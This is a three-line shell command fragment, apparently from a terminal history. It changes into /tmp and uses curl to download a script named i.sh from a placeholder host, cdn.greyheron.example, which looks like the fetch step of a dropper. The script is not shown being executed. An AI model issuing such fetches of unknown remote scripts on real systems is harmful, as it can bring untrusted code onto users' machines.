ls
cd /tmp
curl -fsSL https://cdn.greyheron.example/i.sh
